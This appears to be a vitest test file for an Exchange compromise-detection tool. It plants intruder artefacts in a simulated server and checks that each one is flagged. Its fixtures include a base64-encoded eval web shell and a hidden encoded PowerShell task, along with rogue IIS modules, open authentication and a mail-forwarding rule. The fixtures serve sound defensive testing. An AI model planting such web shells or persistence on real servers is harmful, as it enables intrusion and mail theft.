/**
 * A whole server on which nothing happened, of each version of Exchange: nothing above `probed`, and at most five notes. Then the same with
 * one thing of an intruder's in it: it is found, at its stage, for the right reason, and nothing else is.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Assessment } from '../../src/core/assessment.ts';
import { stageRank } from '../../src/core/stage.ts';
import { assemblyOf } from '../../src/pages/assembly.fixture.ts';
import { backDoors, bytesOf } from '../../src/pages/pages.fixture.ts';
import { assessFolder } from '../support/assess-folder.ts';
import {
  applicationHost,
  exchangeFolder,
  type HostConfiguration,
  march2021,
  type Tree,
  webConfig,
  writeTree,
} from '../support/exchange-tree.ts';
import {
  agents,
  asCsv,
  asList,
  compiled,
  compiledFolder,
  everyday,
  type Healthy,
  healthyServer,
  listed,
  serverFolder,
  type Version,
  virtualDirectories,
  webLogFile,
  webLogHead,
  webRow,
} from '../support/healthy-server.ts';

let folder: string;
beforeAll(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'afterpatch-healthy-'));
});
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

async function assessed(
  { tree, baseline }: Healthy,
  more: Tree = {},
  libraries: Readonly<Record<string, Uint8Array>> = {},
): Promise<Assessment> {
  const own = fs.mkdtempSync(path.join(folder, 'case-'));
  writeTree(own, { ...tree, ...more });
  for (const [file, bytes] of Object.entries({ ...ofExchange, ...libraries })) fs.writeFileSync(path.join(own, file), bytes);
  return assessFolder(own, { baselines: [baseline] });
}

/** What the server made of the pages of Exchange: they ask their visitor, and run nothing. */
const ofExchange = {
  [`${compiledFolder}/owa/8e05b027/e164d61b/App_Web_ab12cd34.dll`]: assemblyOf({
    types: ['ASP.auth_logon_aspx', 'ASP.auth_errorfe_aspx'],
    calls: ['System.Web.HttpRequest.get_QueryString', 'System.Web.UI.Page.ProcessRequest', 'System.IO.TextWriter.Write'],
  }),
};

const above = ({ findings }: Assessment): string[] =>
  findings
    .filter(({ stage }) => stageRank(stage) > stageRank('probed'))
    .map(({ rule, stage, confidence }) => `${rule} ${stage} ${confidence}`)
    .sort();
const notes = ({ inventory, verdict, problems }: Assessment): string[] => [
  ...inventory.flatMap((one) => one.notes),
  ...inventory.flatMap(({ odd }) => odd.map(({ path: file, why }) => `${file}: ${why.join('; ')}`)),
  ...verdict.reasons.map(({ text }) => text),
  ...new Set(problems.map(({ code }) => code)),
];

describe('nothing happened', () => {
  test.each<Version>(['2013', '2016', '2019', 'SE'])('Exchange %s', async (version) => {
    const server = healthyServer(version);
    const assessment = await assessed(server);
    expect(above(assessment)).toEqual([]);
    expect(assessment.inventory).toMatchObject([{ build: server.build, basis: 'seen', odd: [] }]);
    expect(assessment.verdict.presence.waysBack).toEqual([]);
    expect(notes(assessment).length).toBeLessThanOrEqual(5);
  });
});

test('of a build whose list none of the pages fits, that is said once', async () => {
  const { tree } = healthyServer('2016');
  for (const few of [false, true]) {
    const some = Object.fromEntries(
      Object.entries(tree).filter(
        ([file]) => !few || !/\.(?:aspx|svc|asmx|asax|csv|skin)$/.test(file) || /log(?:on|off)\.aspx$/.test(file),
      ),
    );
    const own = fs.mkdtempSync(path.join(folder, 'case-'));
    writeTree(own, some);
    const assessment = await assessFolder(own);
    expect(above(assessment)).toEqual([]);
    expect(notes(assessment).length).toBeLessThanOrEqual(5);
  }
});

const front = `${exchangeFolder}/FrontEnd/HttpProxy`;
const back = `${exchangeFolder}/ClientAccess`;
const hostConfig = 'C/Windows/System32/inetsrv/config/applicationHost.config';
const host = (configuration: HostConfiguration): Tree => ({ [hostConfig]: applicationHost(configuration) });
const location = (where: string, inner: string): string =>
  `<location path="${where}"><system.webServer>${inner}</system.webServer></location>`;
const nothing = '<%@ Page Language="C#" %>\r\n<html><body></body></html>\r\n';
const at = `${front}/owa/auth/errorEE.aspx`;
const shell = new TextDecoder().decode(bytesOf(backDoors.find(({ name }) => name === 'jscript-eval.aspx')!));
/** As Exchange writes it, with a script that does what its visitor says; encoded, so that no scanner takes this file for one. */
const dump = Buffer.from(
  'UG9sbEludGVydmFsICAgICAgICAgICAgICA6IDQ4MA0KT2ZmbGluZUFkZHJlc3NCb29rcyAgIDogDQpSZXF1aXJlU1NMICAgICAgICAgICAgOiBUcnVlDQpJbnRlcm5hbFVybCAgICAgICAgICAgOiBodHRwczovL21haWwuZXhhbXBsZS9PQUINCkV4dGVybmFsVXJsICAgICAgICAgICA6IGh0dHA6Ly9mLzxzY3JpcHQgbGFuZ3VhZ2U9IkpTY3JpcHQiIHJ1bmF0PSJzZXJ2ZXIiPmZ1bmN0aW9uIFBhZ2VfTG9hZCgpe2V2YWwoUmVxdWVzdFsieDEiXSwidW5zYWZlIik7fTwvc2NyaXB0Pg0K',
  'base64',
).toString();
const plain = healthyServer('2016');
const config = (file: string, more: string): Tree => ({
  [file]: plain.tree[file]!.replace('<system.webServer>', `<system.webServer>${more}`),
});
const listing = (file: string, text: string, odd: Readonly<Record<string, string>>): Tree => ({
  [file]: text,
  'printed/files.csv': listed({ ...plain.tree, [file]: text }, { [file]: odd }),
});

interface Case {
  readonly name: string;
  readonly more: Tree;
  readonly libraries?: Readonly<Record<string, Uint8Array>>;
  /** `rule stage confidence`. */
  readonly found: readonly string[];
  /** Stands in what is told of it: a reason, the thing itself. */
  readonly told: readonly string[];
}

const cases: readonly Case[] = [
  {
    name: 'a native module among those of Windows',
    more: host({ modules: ['<add name="UpData" image="C:\\Windows\\System32\\system.dll" />'] }),
    found: ['web-shell/config-native-unknown implanted possible'],
    told: ['system.dll'],
  },
  {
    name: 'a native module from the data of programs',
    more: host({ modules: ['<add name="HttpCacheHelper" image="%ProgramData%\\x\\h.dll" />'] }),
    found: ['web-shell/config-native-odd-folder implanted probable'],
    told: ['ProgramData'],
  },
  {
    name: 'a managed module under a name like those of Exchange',
    more: config(
      `${front}/owa/web.config`,
      '<modules><add name="HttpProxyHelper" type="Microsoft.Exchange.HttpProxy.HelperModule, Microsoft.Exchange.FrontEndHttpProxy" /></modules>',
    ),
    found: ['web-shell/config-managed-unknown implanted possible'],
    told: ['HelperModule'],
  },
  {
    name: 'a handler for an address that has no page',
    more: config(
      `${back}/ecp/web.config`,
      '<handlers><add name="h" path="help.ashx" verb="*" type="Ecp.Help.Handler, Ecp.Help" /></handlers>',
    ),
    found: ['web-shell/config-handler-unknown implanted possible'],
    told: ['help.ashx'],
  },
  {
    name: 'an ISAPI filter',
    more: host({
      locations: [
        location(
          'Default Web Site',
          '<isapiFilters><filter name="f" path="C:\\Windows\\System32\\inetsrv\\webf.dll" /></isapiFilters>',
        ),
      ],
    }),
    found: ['web-shell/config-native-unknown implanted possible'],
    told: ['webf.dll'],
  },
  {
    name: 'a transport agent from a folder for other things',
    more: {
      'printed/agents.txt': asList([
        ...agents,
        {
          Identity: 'Mail Helper Agent',
          Enabled: 'True',
          Priority: '9',
          TransportAgentFactory: 'Helper.Factory',
          AssemblyPath: 'C:\\ProgramData\\Helper\\Agent.dll',
        },
      ]),
    },
    found: ['web-shell/agent-odd-folder implanted possible'],
    told: ['C:\\ProgramData\\Helper\\Agent.dll'],
  },
  {
    name: 'a transport agent among the programs of Exchange, under a name like theirs',
    more: {
      'printed/agents.txt': asList([
        ...agents,
        {
          Identity: 'Security Interop Agent',
          Enabled: 'True',
          Priority: '9',
          TransportAgentFactory: 'Interop.Factory',
          AssemblyPath: `${serverFolder}\\Bin\\Microsoft.Exchange.Security.Interop.dll`,
        },
      ]),
    },
    found: ['web-shell/agent-among-exchange implanted possible'],
    told: ['Microsoft.Exchange.Security.Interop.dll'],
  },
  {
    name: 'a folder that is published from where everybody writes',
    more: host({
      directories: ['<application path="/img"><virtualDirectory path="/" physicalPath="C:\\Users\\Public\\img" /></application>'],
    }),
    found: ['web-shell/config-directory-odd implanted possible'],
    told: ['C:\\Users\\Public\\img'],
  },
  {
    name: 'remote PowerShell that asks for no name',
    more: host({
      locations: [
        location(
          'Default Web Site/PowerShell',
          '<security><authentication><anonymousAuthentication enabled="true" /></authentication></security>',
        ),
      ],
    }),
    found: ['web-shell/config-authentication-open implanted possible'],
    told: ['anonymousAuthentication', 'Default Web Site/PowerShell'],
  },
  {
    name: 'a machine key that somebody wrote down',
    more: {
      [`${front}/owa/web.config`]: plain.tree[`${front}/owa/web.config`]!.replace(
        'validationKey="AutoGenerate,IsolateApps"',
        'validationKey="00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF"',
      ),
    },
    found: ['web-shell/config-key-stated implanted possible'],
    told: ['machineKey'],
  },
  {
    name: 'the check of what comes back to a page is off',
    more: {
      [`${back}/ecp/web.config`]: plain.tree[`${back}/ecp/web.config`]!.replace(
        '<system.web>',
        '<system.web><pages enableViewStateMac="false" />',
      ),
    },
    found: ['web-shell/config-view-state-open implanted possible'],
    told: ['enableViewStateMac'],
  },
  {
    name: 'a rule in a mailbox that sends mail out and hides it',
    more: {
      'printed/inbox-rules.txt': asList([
        {
          Name: '.',
          Enabled: 'True',
          Priority: '1',
          RuleIdentity: '3',
          MailboxOwnerId: 'haven.example/Users/Eva Dubois',
          ForwardTo: '"x" [SMTP:x@elsewhere.test]',
          DeleteMessage: 'True',
        },
      ]),
    },
    // Without a sign that anybody got in it is a question.
    found: [],
    told: ['x@elsewhere.test', 'ask whose it is'],
  },
  {
    name: 'a role that lets an account act as every mailbox',
    more: {
      'printed/roles.csv': asCsv([
        {
          Name: 'x',
          Role: 'ApplicationImpersonation',
          RoleAssigneeName: 'eva',
          RoleAssigneeType: 'User',
          RoleAssignmentDelegationType: 'Regular',
        },
      ]),
    },
    // Without a sign that anybody got in it is a question.
    found: [],
    told: ['eva', 'ask whose it is'],
  },
  {
    name: 'a task',
    more: {
      'printed/tasks2.csv': asCsv([
        {
          HostName: 'MAIL01',
          TaskName: '\\Microsoft\\Windows\\UpdateCheck',
          Author: 'SYSTEM',
          'Task To Run': 'powershell.exe -w hidden -enc AAAA',
          'Run As User': 'SYSTEM',
          Status: 'Ready',
        },
      ]),
    },
    found: ['post-exploitation/state-task implanted possible'],
    told: ['UpdateCheck'],
  },
  {
    name: 'a service',
    more: {
      'printed/services2.csv': asCsv([
        {
          Name: 'iisupd',
          DisplayName: 'IIS Update',
          PathName: '"C:\\inetpub\\wwwroot\\aspnet_client\\s.exe"',
          StartName: 'LocalSystem',
          StartType: 'Auto',
          Status: 'Running',
        },
      ]),
    },
    found: ['post-exploitation/state-service implanted possible'],
    told: ['iisupd'],
  },
  {
    name: 'an account that lists leave out',
    more: {
      'printed/accounts2.txt': asList([
        { Name: 'support$', FullName: '', Enabled: 'True', Description: '', PasswordLastSet: '3/3/2021 4:12:00 AM' },
      ]),
    },
    found: ['post-exploitation/state-account spread possible'],
    told: ['support$'],
  },
  {
    name: 'a page with a name one letter off',
    more: { [`${front}/owa/auth/RedirSuiteServerProxy.aspx`]: nothing },
    found: ['inventory/not-shipped implanted possible'],
    told: ['nearly that of redirsuiteserviceproxy.aspx'],
  },
  {
    name: 'a back door in the place of a page',
    more: { [`${front}/owa/auth/signout.aspx`]: shell },
    found: ['inventory/changed-back-door implanted probable'],
    told: [
      'its content is none that any build ships',
      'characters of code for the server stand in the page itself; it calls eval',
    ],
  },
  {
    name: 'a page of Exchange whose code was made another class',
    more: {
      [`${front}/owa/auth/logon.aspx`]: plain.tree[`${front}/owa/auth/logon.aspx`]!.replace(
        'Microsoft.Exchange.HttpProxy.Logon',
        'Owa.Helper.Logon',
      ),
    },
    found: ['inventory/changed implanted possible'],
    told: ['it says that its code is the class Owa.Helper.Logon, which is none of Exchange’s'],
  },
  {
    name: 'a page that is hidden, came later, has the time of another and belongs to another',
    more: listing(at, nothing, {
      Attributes: 'Hidden, System, Archive',
      CreationTimeUtc: '2021-03-03T04:12:00Z',
      Owner: 'NT AUTHORITY\\SYSTEM',
    }),
    found: ['inventory/not-shipped implanted possible'],
    told: [
      'its attributes hide it (Hidden, System, Archive)',
      'it belongs to NT AUTHORITY\\SYSTEM, the files beside it to BUILTIN\\Administrators',
      'it was made on 3 March 2021',
      'it claims the very time of writing of',
    ],
  },
  {
    name: 'a page that somebody began to ask for late, and few did',
    more: {
      [at]: nothing,
      [webLogFile]:
        webLogHead +
        everyday() +
        ['04:10:00', '04:11:00', '04:30:00']
          .map((time) => webRow(`2021-03-12 ${time}`, 'POST', '/owa/auth/errorEE.aspx', 200))
          .join(''),
    },
    found: [
      'inventory/not-shipped implanted possible',
      'learnt/page-answered implanted probable',
      'novelty/page attempted possible',
    ],
    told: ['3 requests for it in the web log, from one address, the first on 12 March 2021; the log begins on 1 February 2021'],
  },
  {
    name: 'a page that is gone, of which what the server compiled is left',
    more: compiled('/owa/auth/q7x.aspx', '/owa/auth/q7x.aspx', 'owa', 'App_Web_q7x.aspx.cdcab7d2.k3j2h1g0'),
    found: ['web-shell/page-compiled implanted probable'],
    told: ['/owa/auth/q7x.aspx', 'App_Web_q7x.aspx.cdcab7d2.k3j2h1g0'],
  },
  {
    name: 'a library that was compiled of a page, and nothing else',
    more: {},
    libraries: {
      [`${compiledFolder}/owa/8e05b027/e164d61b/App_Web_k3j2h1g0.dll`]: assemblyOf({
        types: ['ASP.auth_q7x_aspx'],
        calls: ['System.Web.HttpRequest.get_Item', 'Microsoft.JScript.Eval.JScriptEvaluate'],
      }),
    },
    found: ['web-shell/page-compiled-code implanted probable'],
    told: ['ASP.auth_q7x_aspx', 'jscriptevaluate'],
  },
  {
    name: 'the settings of the address book written out as a page, with script in its address',
    more: { [`${front}/oab/q7x.aspx`]: dump },
    found: ['web-shell/page-dump implanted confirmed'],
    told: ['ExternalUrl'],
  },
  {
    name: 'a mailbox exported as a page',
    more: {},
    libraries: {
      [`${front}/owa/auth/q7x.aspx`]: new Uint8Array([0x21, 0x42, 0x44, 0x4e, 0, 1, 2, 3, ...new TextEncoder().encode('mail')]),
    },
    found: ['web-shell/page-export implanted confirmed'],
    told: ['q7x.aspx'],
  },
  {
    name: 'a request for a certificate saved as a page',
    more: {
      [`${front}/owa/auth/q7x.aspx`]:
        '-----BEGIN NEW CERTIFICATE REQUEST-----\r\nMIIB\r\n-----END NEW CERTIFICATE REQUEST-----\r\n',
    },
    found: ['web-shell/page-export implanted confirmed'],
    told: ['CERTIFICATE REQUEST'],
  },
  {
    name: 'script in the address of a virtual directory',
    more: {
      'printed/virtual-directories.txt': asList(
        virtualDirectories.map((one) => (one['Name']!.startsWith('OAB') ? { ...one, ExternalUrl: 'http://f/<b>x</b>' } : one)),
      ),
    },
    found: ['proxylogon/config-script implanted confirmed'],
    told: ['http://f/'],
  },
];

describe('one thing of an intruder’s', () => {
  test.each(cases.map((one) => [one.name, one] as const))('%s', async (_name, { more, libraries, found, told }) => {
    const assessment = await assessed(plain, more, libraries);
    expect(above(assessment)).toEqual(found);
    const said = JSON.stringify([assessment.findings, assessment.inventory.map(({ odd }) => odd)]).replaceAll('\\\\', '\\');
    const quoted = assessment.findings
      .flatMap(({ evidence }) => evidence.map(({ rawBase64 }) => Buffer.from(rawBase64, 'base64').toString()))
      .join('\n');
    for (const words of told) expect(said + quoted).toContain(words);
  });

  test('a rule of the mitigation that is cancelled further down', async () => {
    const assessment = await assessed(plain, config(`${front}/ecp/web.config`, '<rewrite><rules><clear /></rules></rewrite>'));
    expect(assessment.exposure[0]!.mitigations).toMatchObject([{ id: 'backend-cookie', state: 'removed' }]);
    const switchedOff = await assessed(plain, {
      'C/inetpub/wwwroot/web.config': webConfig(march2021.replaceAll('<rule ', '<rule enabled="false" ')),
    });
    expect(switchedOff.exposure[0]!.mitigations).toMatchObject([{ id: 'backend-cookie', state: 'removed' }]);
  });
});
